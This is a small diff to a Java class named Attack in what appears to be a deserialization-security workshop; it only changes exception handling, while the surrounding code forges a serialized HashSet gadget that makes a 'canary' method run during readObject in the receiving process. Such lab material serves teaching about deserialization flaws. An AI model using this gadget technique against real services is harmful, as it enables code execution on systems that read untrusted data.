@@ -3,7 +3,6 @@ package workshop.step01;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.ObjectOutputStream;
-import java.io.UncheckedIOException;
 import java.util.HashSet;
 import workshop.step01.library.Memo;
 import workshop.step01.library.MethodCall;
@@ -18,7 +17,7 @@ public final class Attack {
      * A native stream that makes {@link Canary#sing} run in whatever process reads it: during {@code readObject}, so before
      * any cast can look at the result. Made only of classes that the worker has: the JDK's and {@code workshop.step01.library}'s.
      */
-    public static byte[] forge() {
+    public static byte[] forge() throws IOException {
         var memo = new Memo(() -> "harmless while we build");
         var trap = new HashSet<Object>();
         trap.add(memo); // asks for the hash code here, and HashSet.readObject will ask again there
@@ -27,8 +26,6 @@ public final class Attack {
         var bytes = new ByteArrayOutputStream();
         try (var out = new ObjectOutputStream(bytes)) {
             out.writeObject(trap);
-        } catch (IOException e) {
-            throw new UncheckedIOException(e);
         }
         return bytes.toByteArray();
     }
